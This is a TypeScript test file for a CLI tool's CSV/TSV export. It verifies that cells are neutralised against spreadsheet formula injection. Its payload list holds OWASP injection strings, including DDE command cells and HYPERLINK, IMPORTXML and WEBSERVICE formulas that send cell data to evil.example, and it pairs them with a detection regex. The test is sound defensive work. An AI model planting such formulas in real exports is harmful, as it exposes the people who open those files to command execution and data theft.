import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { folder, volley } from '../support/cli.ts';
import { WITH_QUICK_MOCK } from './served.ts';

/** Cells that a spreadsheet would execute: OWASP's list, including full-width signs. */
const PAYLOADS = [
  '=1+1',
  '+1+cmd()',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?x=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+cmd()',
  '－1+cmd()',
  '＠SUM(1)',
  '="x";=1+1',
  '"=1+1',
  '=1+1,=2+2',
];

/**
 * Matches the start of a cell that a spreadsheet takes for a formula, and characters that it skips.
 */
const RUNS = /^[\t\r\n]*[=+\-@＝＋－＠]/u;

test.each(['csv', 'tsv'])(
  'a cell of an exported %s is never a formula, wherever its text comes from',
  async (format) => {
    const rows = PAYLOADS.map((text, at) => ({ id: at, text, [`=SUM(${at})`]: text }));
    const cwd = folder({
      'rows.jsonl': rows.map((row) => `${JSON.stringify(row)}\n`).join(''),
      'm.yaml':
        `${WITH_QUICK_MOCK}defaults: { model: mock/echo }\ntasks:\n` +
        '  - { id: t, for_each: { file: rows.jsonl, key: id }, prompt: "{{ item.text }}" }\n',
    });
    const run = await volley(['run', 'm.yaml', '-o', 'r.jsonl', '-q', '--include', 'item'], {
      cwd,
    });
    expect(run.code, run.stderr).toBe(0);
    const file = `t.${format}`;
    const exported = await volley(['export', 'r.jsonl', '--to', file], { cwd });
    expect(exported.code, exported.stderr).toBe(0);
    const text = readFileSync(join(cwd, file), 'utf8');
    const table: string[][] = parse(text, { delimiter: format === 'csv' ? ',' : '\t' });
    expect(table).toHaveLength(PAYLOADS.length + 1);
    const cells = table.flat();
    expect(cells.filter((cell) => RUNS.test(cell) && !/^-?[\d.]+$/u.test(cell))).toEqual([]);
    // Nothing is lost: without the apostrophe, each cell is the original text.
    for (const payload of PAYLOADS) {
      expect(cells.some((cell) => cell === payload || cell === `'${payload}`)).toBe(true);
    }
  },
);
